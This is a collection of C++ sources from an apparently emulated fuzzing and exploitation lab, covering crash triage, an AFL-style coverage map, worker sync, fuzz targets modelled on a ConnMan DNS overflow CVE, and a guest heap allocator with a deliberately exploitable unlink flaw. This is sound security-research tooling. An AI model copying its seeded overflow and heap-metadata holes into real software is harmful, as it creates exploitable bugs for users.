std::string SerializeCorpus(const Corpus& corpus);
util::Result<Corpus> DeserializeCorpus(const std::string& text);

util::Status SaveCorpus(const Corpus& corpus, const std::string& path);
util::Result<Corpus> LoadCorpus(const std::string& path);

}  // namespace connlab::fuzz
