// Crash triage: deduplication, minimization, reproducer files.
//
// Raw crashing inputs from a campaign are overwhelmingly duplicates of one
// another — hundreds of byte-different packets all smashing the same
// get_name frame. Triage buckets them by (result kind, stop reason,
// normalized fault pc, write-vs-execute, hash of the top stack frames),
// keeps the first witness per bucket, then deterministically shrinks that
// witness (tail truncation followed by block removal) while it still lands
// in the same bucket core. Minimized witnesses serialize to a small text
// reproducer format that a later run — or CI — can parse and replay.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/fuzz/target.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::fuzz {

struct CrashKey {
  ExecResult::Kind kind = ExecResult::Kind::kCrash;
  vm::StopReason stop_reason = vm::StopReason::kFault;
  mem::GuestAddr pc = 0;  // normalized via FuzzTarget::NormalizePc
  bool write_fault = false;
  std::uint64_t stack_hash = 0;

  bool operator==(const CrashKey&) const = default;

  /// The scheduling-stable subset: minimization and replay match on this
  /// (the stack context can legitimately shift as bytes are removed).
  [[nodiscard]] bool CoreMatches(const CrashKey& other) const noexcept {
    return kind == other.kind && stop_reason == other.stop_reason &&
           pc == other.pc && write_fault == other.write_fault;
  }
};

/// Builds the bucket key for a non-benign execution result.
CrashKey KeyFor(const ExecResult& result, const FuzzTarget& target);

std::string FormatCrashKey(const CrashKey& key);

struct CrashBucket {
  CrashKey key;
  util::Bytes witness;        // first input that hit this bucket
  util::Bytes minimized;      // filled by MinimizeBucket (else == witness)
  ExecResult first_result;
  std::uint64_t hits = 0;
  std::uint64_t first_exec = 0;  // execution index of the first hit
};

class CrashTriage {
 public:
  /// Records one non-benign result. Returns true when it opened a new
  /// bucket (first witness kept), false for a duplicate (hit counted).
  bool Record(const ExecResult& result, util::ByteSpan input,
              std::uint64_t exec_index, const FuzzTarget& target);

  [[nodiscard]] const std::vector<CrashBucket>& buckets() const noexcept {
    return buckets_;
  }
  [[nodiscard]] std::vector<CrashBucket>& buckets() noexcept {
    return buckets_;
  }

  /// Merges another triage's buckets (multi-worker join). Earlier
  /// first_exec wins the witness; hits accumulate.
  void Merge(const CrashTriage& other);

 private:
  std::vector<CrashBucket> buckets_;
};

/// Deterministically shrinks `input` while the target still produces a
/// result whose key core-matches `key`. Never touches the target's fixed
/// prefix. Bounded by `max_execs` re-executions.
util::Bytes MinimizeCrash(FuzzTarget& target, const CrashKey& key,
                          util::ByteSpan input, std::size_t max_execs = 2000);

/// Runs MinimizeCrash over a bucket and stores the result in
/// bucket.minimized.
void MinimizeBucket(FuzzTarget& target, CrashBucket& bucket,
                    std::size_t max_execs = 2000);

// ---------------------------------------------------------------------------
// Reproducer files
// ---------------------------------------------------------------------------

struct Reproducer {
  TargetConfig config;
  CrashKey key;
  util::Bytes input;
};

/// Text serialization (key: value lines + hex payload) of one bucket's
/// minimized witness for the given target configuration.
std::string SerializeReproducer(const TargetConfig& config,
                                const CrashBucket& bucket);

util::Result<Reproducer> ParseReproducer(std::string_view text);

/// Replays a reproducer: boots the configured target, runs the input, and
/// checks the result core-matches the recorded key.
util::Result<ExecResult> ReplayReproducer(const Reproducer& repro);

}  // namespace connlab::fuzz
