// AFL-style edge-coverage bitmap.
//
// The CPU (Cpu::AttachCoverage) increments one 8-bit cell per retired
// instruction, indexed by hash(prev pc) ^ hash(cur pc); targets fold extra
// semantic features in (outcome kinds, expansion-volume buckets, raised
// events) through AddFeature. Raw hit counts are bucketed into the classic
// count classes (1, 2, 3, 4-7, 8-15, 16-31, 32-127, 128+) before novelty
// comparison, so "the copy loop ran twice as long" is new coverage but
// "ran 41 vs 42 times" is not — exactly the signal that walks the fuzzer
// from benign names toward the 1024-byte boundary and past it.
//
// Every whole-map walk (Classify, MergeClassified, AbsorbInto, CountNonZero,
// Digest) is word-wise with a zero-word skip: a single execution touches a
// few hundred of the 65536 cells, so the common case is "load 8 bytes, see
// zero, move on" and the per-exec bookkeeping cost collapses from ~64K byte
// loads to ~8K word loads. The observable results are bit-identical to the
// byte-at-a-time originals — same classification table, same absorb
// semantics, same FNV digest over the same (index, value) stream.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <string>
#include <vector>

namespace connlab::fuzz {

/// One cell's worth of newly-discovered (classified) coverage: the bits
/// `index` gained when an execution was absorbed into a virgin map. A batch
/// of these is the sparse between-worker currency of the epoch sync — tiny
/// compared to shipping 64KiB maps around.
struct CoverageDelta {
  std::uint32_t index = 0;
  std::uint8_t bits = 0;
};

class CoverageMap {
 public:
  /// 64 KiB, the AFL default: big enough that this library's guest images
  /// (a few hundred distinct locations) essentially never collide.
  static constexpr std::uint32_t kSize = 1u << 16;
  static constexpr std::uint32_t kMask = kSize - 1;

  CoverageMap() { Clear(); }

  [[nodiscard]] std::uint8_t* data() noexcept { return map_.data(); }
  [[nodiscard]] const std::uint8_t* data() const noexcept { return map_.data(); }
  [[nodiscard]] static constexpr std::uint32_t mask() noexcept { return kMask; }

  void Clear() noexcept { map_.fill(0); }

  /// Folds a non-edge feature (outcome kind, size bucket, event kind) into
  /// the same bitmap. Saturating, like the edge counters.
  void AddFeature(std::uint32_t feature) noexcept {
    std::uint8_t& cell = map_[feature & kMask];
    if (cell != 0xFF) ++cell;
  }

  /// Replaces every cell with its count-class bit (1<<class).
  void Classify() noexcept;

  /// OR-merges `other` (classified or raw — it is classified in place by
  /// the caller's contract being "call Classify first"; merging classified
  /// maps is commutative and associative, which is what makes multi-worker
  /// coverage deterministic regardless of scheduling).
  void MergeClassified(const CoverageMap& other) noexcept;

  /// Compares this (classified) execution map against the accumulated
  /// `virgin` map and absorbs it. Returns 2 for brand-new edges, 1 for new
  /// count classes on known edges, 0 for nothing new. When `delta` is
  /// non-null, every newly-set (index, bits) pair is appended to it — the
  /// sparse record a fuzz worker publishes at the next epoch barrier.
  int AbsorbInto(CoverageMap& virgin,
                 std::vector<CoverageDelta>* delta = nullptr) const;

  /// ORs a batch of sparse deltas (another worker's epoch finds) into this
  /// map. Idempotent, commutative across batches.
  void ApplyDelta(std::span<const CoverageDelta> delta) noexcept;

  /// Number of cells with any bit set.
  [[nodiscard]] std::uint32_t CountNonZero() const noexcept;

  /// Order-independent digest of the (classified) map, for determinism
  /// checks across runs / worker counts.
  [[nodiscard]] std::uint64_t Digest() const noexcept;

  [[nodiscard]] std::string Summary() const;

 private:
  std::array<std::uint8_t, kSize> map_;
};

/// The count-class bucket (a single bit) for a raw hit count.
std::uint8_t CountClass(std::uint8_t raw) noexcept;

}  // namespace connlab::fuzz
