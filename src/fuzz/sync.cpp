#include "src/fuzz/sync.hpp"

namespace connlab::fuzz {

const std::vector<EpochDelta>& EpochExchange::ExchangeAndWait(
    std::size_t worker, std::size_t epoch, EpochDelta delta) {
  std::unique_lock<std::mutex> lock(mu_);
  while (rows_.size() <= epoch) {
    rows_.emplace_back();
    rows_.back().deltas.resize(workers_);
  }
  Row& row = rows_[epoch];
  row.deltas[worker] = std::move(delta);
  ++row.published;
  if (row.published == workers_) {
    cv_.notify_all();
  } else {
    // Waiters for *other* epochs share the condvar; re-check our own row.
    cv_.wait(lock, [&row, this] { return row.published == workers_; });
  }
  return row.deltas;
}

}  // namespace connlab::fuzz
