// Epoch-batched cross-worker exchange: the mechanism that lets N fuzz
// workers share coverage-increasing finds without giving up determinism.
//
// Workers run fully independently between barriers. Every `sync_interval`
// execs a worker reaches an epoch barrier, publishes what it found since
// the previous one (its new corpus entries plus the sparse coverage bits it
// newly lit in its own virgin map), waits for every other worker to publish
// the same epoch, and then absorbs the others' deltas in worker-index
// order. Because the barrier is bulk-synchronous — nobody reads epoch e
// until all of epoch e is published, and the absorb order is fixed — the
// state a worker carries into epoch e+1 is a pure function of (root seed,
// worker index, e), never of thread scheduling. That is the whole
// determinism argument, and the digest tests hold it to account.
//
// Termination: workers finish their budgets at different epochs, so a
// finished worker keeps attending barriers with an empty, done-flagged
// delta until every worker reports done. All workers therefore observe the
// same final epoch and exit together; no barrier is ever left short.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <mutex>
#include <vector>

#include "src/fuzz/corpus.hpp"
#include "src/fuzz/coverage.hpp"

namespace connlab::fuzz {

/// One worker's publication for one epoch.
struct EpochDelta {
  /// Coverage-increasing inputs admitted to the worker's corpus since the
  /// previous barrier (news/found_at as recorded at discovery time).
  std::vector<CorpusEntry> entries;
  /// Sparse classified bits newly set in the worker's virgin map since the
  /// previous barrier.
  std::vector<CoverageDelta> coverage;
  /// Worker has exhausted its budget (or stopped early); it will publish
  /// nothing further but keeps attending barriers until everyone is done.
  bool done = false;
};

/// The barrier + mailbox shared by one campaign's workers. Thread-safe;
/// workers must each publish every epoch exactly once, in order.
class EpochExchange {
 public:
  explicit EpochExchange(std::size_t workers) : workers_(workers) {}

  EpochExchange(const EpochExchange&) = delete;
  EpochExchange& operator=(const EpochExchange&) = delete;

  /// Publishes `delta` as (worker, epoch) and blocks until all workers have
  /// published that epoch. Returns the complete row, indexed by worker. The
  /// reference stays valid for the exchange's lifetime (rows are kept in a
  /// deque and never erased), and reading it after return is race-free: all
  /// writes to the row happened before the last publisher flipped it
  /// complete under the mutex.
  const std::vector<EpochDelta>& ExchangeAndWait(std::size_t worker,
                                                 std::size_t epoch,
                                                 EpochDelta delta);

  [[nodiscard]] static bool AllDone(
      const std::vector<EpochDelta>& row) noexcept {
    for (const EpochDelta& d : row) {
      if (!d.done) return false;
    }
    return true;
  }

  [[nodiscard]] std::size_t workers() const noexcept { return workers_; }

 private:
  struct Row {
    std::vector<EpochDelta> deltas;
    std::size_t published = 0;
  };

  std::size_t workers_;
  std::mutex mu_;
  std::condition_variable cv_;
  std::deque<Row> rows_;  // deque: row references survive later epochs
};

}  // namespace connlab::fuzz
