#include "src/fuzz/coverage.hpp"

#include <cstdio>
#include <cstring>

namespace connlab::fuzz {

namespace {
// 256-entry class lookup built once: raw count -> single class bit.
struct ClassTable {
  std::array<std::uint8_t, 256> t{};
  constexpr ClassTable() {
    for (int i = 0; i < 256; ++i) {
      std::uint8_t cls = 0;
      if (i == 0) cls = 0;
      else if (i == 1) cls = 1u << 0;
      else if (i == 2) cls = 1u << 1;
      else if (i == 3) cls = 1u << 2;
      else if (i <= 7) cls = 1u << 3;
      else if (i <= 15) cls = 1u << 4;
      else if (i <= 31) cls = 1u << 5;
      else if (i <= 127) cls = 1u << 6;
      else cls = 1u << 7;
      t[static_cast<std::size_t>(i)] = cls;
    }
  }
};
constexpr ClassTable kClasses;

// The zero-word skip: maps are almost entirely zero after Clear (one exec
// touches a few hundred cells), so 8 bytes at a time with an early-out is
// the whole optimisation. memcpy keeps the loads alignment-agnostic and
// UB-free; it compiles to a single 64-bit load.
static_assert(CoverageMap::kSize % 8 == 0);

inline std::uint64_t LoadWord(const std::uint8_t* p) noexcept {
  std::uint64_t w;
  std::memcpy(&w, p, sizeof(w));
  return w;
}

inline void StoreWord(std::uint8_t* p, std::uint64_t w) noexcept {
  std::memcpy(p, &w, sizeof(w));
}

}  // namespace

std::uint8_t CountClass(std::uint8_t raw) noexcept { return kClasses.t[raw]; }

void CoverageMap::Classify() noexcept {
  std::uint8_t* m = map_.data();
  for (std::uint32_t i = 0; i < kSize; i += 8) {
    if (LoadWord(m + i) == 0) continue;
    for (std::uint32_t j = i; j < i + 8; ++j) m[j] = kClasses.t[m[j]];
  }
}

void CoverageMap::MergeClassified(const CoverageMap& other) noexcept {
  std::uint8_t* m = map_.data();
  const std::uint8_t* o = other.map_.data();
  for (std::uint32_t i = 0; i < kSize; i += 8) {
    const std::uint64_t theirs = LoadWord(o + i);
    if (theirs == 0) continue;
    StoreWord(m + i, LoadWord(m + i) | theirs);
  }
}

int CoverageMap::AbsorbInto(CoverageMap& virgin,
                            std::vector<CoverageDelta>* delta) const {
  int news = 0;
  const std::uint8_t* m = map_.data();
  std::uint8_t* v = virgin.map_.data();
  for (std::uint32_t i = 0; i < kSize; i += 8) {
    const std::uint64_t fresh_w = LoadWord(m + i);
    if (fresh_w == 0) continue;
    if ((fresh_w & ~LoadWord(v + i)) == 0) continue;
    for (std::uint32_t j = i; j < i + 8; ++j) {
      const std::uint8_t fresh = m[j];
      const std::uint8_t gained = static_cast<std::uint8_t>(fresh & ~v[j]);
      if (gained == 0) continue;
      const int cell_news = v[j] == 0 ? 2 : 1;
      if (cell_news > news) news = cell_news;
      if (delta != nullptr) delta->push_back(CoverageDelta{j, gained});
      v[j] |= fresh;
    }
  }
  return news;
}

void CoverageMap::ApplyDelta(std::span<const CoverageDelta> delta) noexcept {
  for (const CoverageDelta& d : delta) map_[d.index & kMask] |= d.bits;
}

std::uint32_t CoverageMap::CountNonZero() const noexcept {
  std::uint32_t n = 0;
  const std::uint8_t* m = map_.data();
  for (std::uint32_t i = 0; i < kSize; i += 8) {
    if (LoadWord(m + i) == 0) continue;
    for (std::uint32_t j = i; j < i + 8; ++j) n += m[j] != 0;
  }
  return n;
}

std::uint64_t CoverageMap::Digest() const noexcept {
  // FNV-1a over (index, value) pairs of non-zero cells.
  std::uint64_t h = 0xcbf29ce484222325ULL;
  const std::uint8_t* m = map_.data();
  for (std::uint32_t i = 0; i < kSize; i += 8) {
    if (LoadWord(m + i) == 0) continue;
    for (std::uint32_t j = i; j < i + 8; ++j) {
      if (m[j] == 0) continue;
      h = (h ^ j) * 0x100000001b3ULL;
      h = (h ^ m[j]) * 0x100000001b3ULL;
    }
  }
  return h;
}

std::string CoverageMap::Summary() const {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%u/%u cells", CountNonZero(), kSize);
  return buf;
}

}  // namespace connlab::fuzz
