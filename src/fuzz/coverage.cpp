#include "src/fuzz/coverage.hpp"

#include <cstdio>

namespace connlab::fuzz {

namespace {
// 256-entry class lookup built once: raw count -> single class bit.
struct ClassTable {
  std::array<std::uint8_t, 256> t{};
  constexpr ClassTable() {
    for (int i = 0; i < 256; ++i) {
      std::uint8_t cls = 0;
      if (i == 0) cls = 0;
      else if (i == 1) cls = 1u << 0;
      else if (i == 2) cls = 1u << 1;
      else if (i == 3) cls = 1u << 2;
      else if (i <= 7) cls = 1u << 3;
      else if (i <= 15) cls = 1u << 4;
      else if (i <= 31) cls = 1u << 5;
      else if (i <= 127) cls = 1u << 6;
      else cls = 1u << 7;
      t[static_cast<std::size_t>(i)] = cls;
    }
  }
};
constexpr ClassTable kClasses;
}  // namespace

std::uint8_t CountClass(std::uint8_t raw) noexcept { return kClasses.t[raw]; }

void CoverageMap::Classify() noexcept {
  for (std::uint8_t& cell : map_) cell = kClasses.t[cell];
}

void CoverageMap::MergeClassified(const CoverageMap& other) noexcept {
  for (std::uint32_t i = 0; i < kSize; ++i) map_[i] |= other.map_[i];
}

int CoverageMap::AbsorbInto(CoverageMap& virgin) const noexcept {
  int news = 0;
  for (std::uint32_t i = 0; i < kSize; ++i) {
    const std::uint8_t fresh = map_[i];
    if (fresh == 0) continue;
    std::uint8_t& known = virgin.map_[i];
    if ((fresh & ~known) != 0) {
      const int cell_news = known == 0 ? 2 : 1;
      if (cell_news > news) news = cell_news;
      known |= fresh;
    }
  }
  return news;
}

std::uint32_t CoverageMap::CountNonZero() const noexcept {
  std::uint32_t n = 0;
  for (const std::uint8_t cell : map_) n += cell != 0;
  return n;
}

std::uint64_t CoverageMap::Digest() const noexcept {
  // FNV-1a over (index, value) pairs of non-zero cells.
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (std::uint32_t i = 0; i < kSize; ++i) {
    if (map_[i] == 0) continue;
    h = (h ^ i) * 0x100000001b3ULL;
    h = (h ^ map_[i]) * 0x100000001b3ULL;
  }
  return h;
}

std::string CoverageMap::Summary() const {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%u/%u cells", CountNonZero(), kSize);
  return buf;
}

}  // namespace connlab::fuzz
