// AFL-style fuzzing dictionaries: user-supplied token lists the mutator
// splices into inputs. For the DNS targets the interesting tokens are the
// structural magic values a blind havoc loop takes a long time to
// synthesise — 0xc00c self-pointers, 0x3f-length bytes, known-hostname
// label runs, record-type words.
//
// File format (one token per line):
//     # comment
//     token_name="bytes with \x41 escapes"
//     "bare tokens work too"
// Names are documentation only; the mutator sees just the byte strings.
#pragma once

#include <string>
#include <vector>

#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::fuzz {

/// Parses dictionary text. Unparseable lines are an error (a silently
/// dropped token would quietly weaken a campaign). An empty file is a
/// valid empty dictionary.
util::Result<std::vector<util::Bytes>> ParseDictionary(const std::string& text);

/// Reads and parses a dictionary file.
util::Result<std::vector<util::Bytes>> LoadDictionaryFile(
    const std::string& path);

/// Tokens worth having against the simulated dnsproxy, used as a built-in
/// default and as the CI smoke dictionary: compression-pointer prefixes,
/// the max label length, an ancount bump, and a long label run.
std::vector<util::Bytes> DefaultDnsDictionary();

}  // namespace connlab::fuzz
