// FuzzTarget: one instrumented service under fuzz.
//
// A target owns a booted System plus the service object (DnsProxy,
// Minimasq, HttpCamd), executes one input per Execute() call with the
// caller's coverage bitmap attached to the CPU, classifies the result, and
// reboots itself after any execution that corrupted guest state (a real
// fuzzing harness would fork a fresh process; we restore a post-boot
// snapshot — fork-server style — or fall back to a full re-Boot when
// fast_reset is off). Targets also describe the input format to the
// mutation engine: how many leading bytes are the harness-fixed
// header/question echo, and whether DNS-structure mutators apply.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "src/fuzz/coverage.hpp"
#include "src/mem/segment.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::fuzz {

/// Which service to fuzz.
enum class TargetKind : std::uint8_t {
  kDnsproxy,   // connman::DnsProxy (CVE-2017-12865 path)
  kMinimasq,   // adapt::Minimasq (dnsmasq-flavoured overflow)
  kHttpcamd,   // adapt::HttpCamd (HTTP body overflow)
  kResolvd,    // adapt::Resolvd (compression-pointer loop)
  kCamstored,  // adapt::Camstored (heap-metadata overwrite)
};

std::string_view TargetKindName(TargetKind kind) noexcept;
util::Result<TargetKind> ParseTargetKind(std::string_view name);

struct TargetConfig {
  TargetKind kind = TargetKind::kDnsproxy;
  isa::Arch arch = isa::Arch::kVX86;
  /// Boot seed: same seed => identical process image (ASLR off by default
  /// so reproducers replay across runs).
  std::uint64_t boot_seed = 1;
  /// For the dnsproxy target: fuzz the vulnerable 1.34 build by default;
  /// flip to fuzz the patched build (regression mode: expect NO crashes).
  bool patched = false;
  /// Reboot after a corrupting execution by restoring a post-boot snapshot
  /// (fork-server style) instead of re-running the loader. Off = full
  /// re-Boot per corruption, the legacy baseline for the differential gate.
  bool fast_reset = true;
  /// Superblock threaded-code tier (vm/superblock.hpp) on the target's CPU.
  /// Only ever applied as a disable so the process-wide default the
  /// differential suite flips (Cpu::set_superblocks_default) still governs
  /// freshly booted targets.
  bool superblocks = true;
  /// Block linking + host-fn/syscall continuation within the superblock
  /// tier; same disable-only contract. Off reproduces the bare self-loop
  /// tier for A/B smokes.
  bool block_links = true;
  /// Publication to / import from the process-wide SharedSuperblockRegistry;
  /// same disable-only contract. Off compiles every block privately.
  bool shared_blocks = true;
};

/// What one execution did, reduced to what the fuzz loop and the triage
/// layer need. `stack` holds return-address-looking words found near the
/// stop sp (text addresses only) — the triage bucket's frame context.
struct ExecResult {
  enum class Kind : std::uint8_t {
    kBenign,    // parsed / served / rejected cleanly; daemon fine
    kCrash,     // segfault-equivalent
    kAbort,     // canary / CFI abort
    kHijack,    // shell or foreign exec — control flow captured
    kOther,     // step limit, unexpected halt, harness error
  };
  Kind kind = Kind::kBenign;
  vm::StopReason stop_reason = vm::StopReason::kRunning;
  mem::GuestAddr pc = 0;          // pc at stop (crash site or junk target)
  bool write_fault = false;       // faulting access was a write
  std::uint32_t bytes_expanded = 0;  // name/body bytes written by the parser
  bool overflow = false;          // expansion exceeded the target's buffer
  std::vector<mem::GuestAddr> stack;  // text-segment words near sp
  std::string detail;
};

class FuzzTarget {
 public:
  virtual ~FuzzTarget() = default;

  [[nodiscard]] virtual TargetKind kind() const noexcept = 0;
  [[nodiscard]] virtual std::string_view name() const noexcept = 0;

  /// Leading bytes every input must keep verbatim to get past the
  /// service's header sanity checks (transaction-id + question echo for
  /// DNS targets; 0 when the whole input is fair game).
  [[nodiscard]] virtual std::size_t fixed_prefix() const noexcept = 0;

  /// Whether the DNS-structure mutators (label surgery, compression
  /// pointers, count bumps) apply to this target's inputs.
  [[nodiscard]] virtual bool dns_shaped() const noexcept = 0;

  /// True when the service keeps guest state across executions (e.g. a
  /// daemon whose heap survives benign requests). Crashes in such targets
  /// are sequence properties: a single witness input need not reproduce on
  /// a freshly booted instance, so single-input replay is not a validity
  /// check for them.
  [[nodiscard]] virtual bool stateful_across_execs() const noexcept {
    return false;
  }

  /// Benign inputs that exercise the parser without crashing it.
  [[nodiscard]] virtual std::vector<util::Bytes> SeedCorpus() const = 0;

  /// Runs one input; edge coverage and semantic features land in `map`.
  virtual ExecResult Execute(util::ByteSpan input, CoverageMap& map) = 0;

  /// Normalises a crash pc for bucketing: pcs inside the known overflow
  /// copy routine collapse to its entry, pcs outside any text segment
  /// (wild jumps through a smashed frame) collapse to a sentinel.
  [[nodiscard]] virtual mem::GuestAddr NormalizePc(mem::GuestAddr pc) const = 0;

  /// True when `pc` (already normalised or not) is inside the overflow
  /// copy site — the CVE's signature location.
  [[nodiscard]] virtual bool AtOverflowSite(mem::GuestAddr pc) const = 0;

  /// Total reboots performed (diagnostics; a crash-heavy campaign pays
  /// one Boot per crash).
  [[nodiscard]] virtual std::uint64_t reboots() const noexcept = 0;
};

/// Sentinel NormalizePc returns for a pc outside every text mapping.
inline constexpr mem::GuestAddr kWildPc = 0xFFFFFFFFu;

util::Result<std::unique_ptr<FuzzTarget>> MakeTarget(const TargetConfig& config);

}  // namespace connlab::fuzz
