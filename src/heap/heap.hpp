// A deterministic guest-side heap allocator (dlmalloc-style boundary tags).
//
// All allocator state — arena header, size-class freelists, per-chunk
// boundary tags — lives inline in guest memory, so a guest-visible buffer
// overflow corrupts *real* allocator metadata and a subsequent Free()
// performs the classic unlink write through attacker-controlled fd/bk
// pointers. That is the heap-metadata bug class the camstored target seeds
// (cf. the dlmalloc unlink technique the embedded-mitigations survey in
// PAPERS.md assumes heap-integrity checks exist to stop).
//
// Because the arena is guest memory, snapshot restores reset the heap for
// free: a restored System presents the exact arena the snapshot captured,
// and GuestHeap is a stateless view that re-attaches by checking the magic.
//
// Chunk layout (addresses are chunk base `c`; all fields little-endian u32):
//   [c+0]  prev_size  size of the previous chunk (valid when PREV_INUSE==0)
//   [c+4]  size       chunk size in bytes incl. header; bit0 = PREV_INUSE
//   [c+8]  guard      (size & ~7) ^ secret — chunk-header canary, flag bits
//                     excluded (checked on Free only when heap-integrity is
//                     armed)
//   [c+12] payload    (free chunks: fd at c+12, bk at c+16)
// A free chunk also writes its size into the next chunk's prev_size slot
// (the boundary-tag footer enabling O(1) backward coalescing).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/mem/address_space.hpp"
#include "src/util/status.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::heap {

class GuestHeap {
 public:
  static constexpr std::uint32_t kMagic = 0x48454150;  // "HEAP"
  static constexpr std::uint32_t kHeaderSize = 12;     // prev_size, size, guard
  static constexpr std::uint32_t kMinChunk = 24;       // header + fd/bk, 8-aligned
  static constexpr std::uint32_t kAlign = 8;
  static constexpr std::uint32_t kBins = 7;
  /// Offset of the first chunk from the arena base (arena header + bins,
  /// rounded up so chunk payloads stay 8-aligned at +12).
  static constexpr std::uint32_t kArenaSize = 96;

  /// Views (does not touch) the arena at [base, base+size) in `space`.
  GuestHeap(mem::AddressSpace& space, mem::GuestAddr base, std::uint32_t size);

  /// Formats a fresh arena. `secret` is the per-boot chunk-canary value;
  /// `integrity` arms the Free()-time canary + safe-unlink checks.
  util::Status Init(std::uint32_t secret, bool integrity);

  /// True if guest memory already holds a formatted arena (after a
  /// snapshot restore the arena contents come back with the snapshot).
  [[nodiscard]] bool Attached() const;

  /// If set, a detected corruption pushes a kHeapCorruption event and
  /// requests a kHeapCorruption stop on the CPU (the VM-visible trap).
  void AttachCpu(vm::Cpu* cpu) { cpu_ = cpu; }

  /// Allocates `payload_bytes` (>=1) of guest memory; returns the payload
  /// address. Fails with kResourceExhausted when the wilderness is spent.
  util::Result<mem::GuestAddr> Alloc(std::uint32_t payload_bytes);

  /// Frees a payload address previously returned by Alloc. With integrity
  /// armed, corrupted chunk metadata fails here with kAborted and raises
  /// the HeapCorruption stop on the attached CPU.
  util::Status Free(mem::GuestAddr payload);

  /// Usable payload bytes of an allocated chunk.
  util::Result<std::uint32_t> PayloadSize(mem::GuestAddr payload) const;

  struct ChunkInfo {
    mem::GuestAddr addr = 0;   // chunk base (payload - kHeaderSize)
    std::uint32_t size = 0;    // chunk size incl. header
    bool in_use = false;
  };
  /// Walks the boundary tags from the first chunk to the wilderness top.
  /// Stops early (without error) if a tag is corrupt — callers diffing
  /// walks before/after an overflow use that to see the damage.
  [[nodiscard]] std::vector<ChunkInfo> Walk() const;

  struct Stats {
    std::uint64_t allocs = 0;
    std::uint64_t frees = 0;
    std::uint64_t splits = 0;
    std::uint64_t coalesces = 0;
    std::uint64_t corruptions = 0;
  };
  [[nodiscard]] const Stats& stats() const noexcept { return stats_; }

  /// Guest-memory words the allocator has read or written (every metadata
  /// access funnels through one read and one write helper). Deterministic,
  /// so it doubles as a wall-clock-free cost metric: the integrity checks'
  /// price is exactly the extra words they touch per operation.
  [[nodiscard]] std::uint64_t mem_ops() const noexcept { return mem_ops_; }

  [[nodiscard]] mem::GuestAddr base() const noexcept { return base_; }
  /// Address of the first chunk a fresh arena carves (deterministic: the
  /// heap base is fixed, so exploit builders compute payload addresses
  /// from this without any leak).
  [[nodiscard]] mem::GuestAddr FirstChunk() const noexcept {
    return base_ + kArenaSize;
  }

 private:
  // Arena header field offsets from base_.
  static constexpr std::uint32_t kOffMagic = 0;
  static constexpr std::uint32_t kOffTop = 4;
  static constexpr std::uint32_t kOffEnd = 8;
  static constexpr std::uint32_t kOffSecret = 12;
  static constexpr std::uint32_t kOffFlags = 16;         // bit0 = integrity
  static constexpr std::uint32_t kOffTopPrevInuse = 20;  // wilderness boundary
  static constexpr std::uint32_t kOffBins = 24;          // kBins x {fd, bk}

  [[nodiscard]] std::uint32_t U32(mem::GuestAddr a) const;  // 0 on error
  util::Status Put(mem::GuestAddr a, std::uint32_t v);

  /// Guest address of bin i's sentinel pseudo-chunk: its fd/bk slots alias
  /// the two header words, so list splices treat bins and chunks uniformly
  /// (exactly dlmalloc's bin trick).
  [[nodiscard]] mem::GuestAddr BinSentinel(std::uint32_t i) const {
    return base_ + kOffBins + 8 * i - kHeaderSize;
  }
  static std::uint32_t BinIndex(std::uint32_t chunk_size) noexcept;

  util::Status Unlink(mem::GuestAddr chunk);
  util::Status InsertFree(mem::GuestAddr chunk, std::uint32_t size,
                          bool prev_inuse);
  util::Status Corruption(mem::GuestAddr chunk, const std::string& what);

  mem::AddressSpace* space_;
  mem::GuestAddr base_;
  std::uint32_t size_;
  vm::Cpu* cpu_ = nullptr;
  Stats stats_;
  // Mutable: U32() is called from const walkers too, and a read counter is
  // observability, not logical state.
  mutable std::uint64_t mem_ops_ = 0;
};

/// The per-boot chunk-canary secret: a pure function of the boot seed so a
/// snapshot-restored System re-derives the identical secret without
/// consuming host RNG state.
std::uint32_t ChunkSecret(std::uint64_t boot_seed) noexcept;

}  // namespace connlab::heap
