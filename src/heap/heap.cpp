#include "src/heap/heap.hpp"

#include <cstdio>

namespace connlab::heap {

namespace {

std::string Hex(std::uint32_t v) {
  char buf[16];
  std::snprintf(buf, sizeof(buf), "0x%08x", v);
  return buf;
}

constexpr std::uint32_t kSizeMask = ~7u;
constexpr std::uint32_t kPrevInuse = 1u;
/// Bound on freelist walks: a corrupted cyclic list must not hang the host.
constexpr std::uint32_t kMaxListWalk = 4096;

std::uint32_t AlignUp(std::uint32_t n) noexcept {
  return (n + GuestHeap::kAlign - 1) & ~(GuestHeap::kAlign - 1);
}

}  // namespace

std::uint32_t ChunkSecret(std::uint64_t boot_seed) noexcept {
  std::uint64_t s = boot_seed + 0x9e3779b97f4a7c15ULL;
  s ^= s >> 33;
  s *= 0xff51afd7ed558ccdULL;
  s ^= s >> 33;
  s *= 0xc4ceb9fe1a85ec53ULL;
  s ^= s >> 33;
  // Never zero: a zeroed guard slot must not accidentally validate.
  return static_cast<std::uint32_t>(s) | 1u;
}

GuestHeap::GuestHeap(mem::AddressSpace& space, mem::GuestAddr base,
                     std::uint32_t size)
    : space_(&space), base_(base), size_(size) {}

std::uint32_t GuestHeap::U32(mem::GuestAddr a) const {
  ++mem_ops_;
  return space_->ReadU32(a).value_or(0);
}

util::Status GuestHeap::Put(mem::GuestAddr a, std::uint32_t v) {
  ++mem_ops_;
  return space_->WriteU32(a, v);
}

std::uint32_t GuestHeap::BinIndex(std::uint32_t chunk_size) noexcept {
  if (chunk_size <= 32) return 0;
  if (chunk_size <= 48) return 1;
  if (chunk_size <= 64) return 2;
  if (chunk_size <= 96) return 3;
  if (chunk_size <= 128) return 4;
  if (chunk_size <= 256) return 5;
  return 6;
}

util::Status GuestHeap::Init(std::uint32_t secret, bool integrity) {
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffMagic, kMagic));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTop, base_ + kArenaSize));
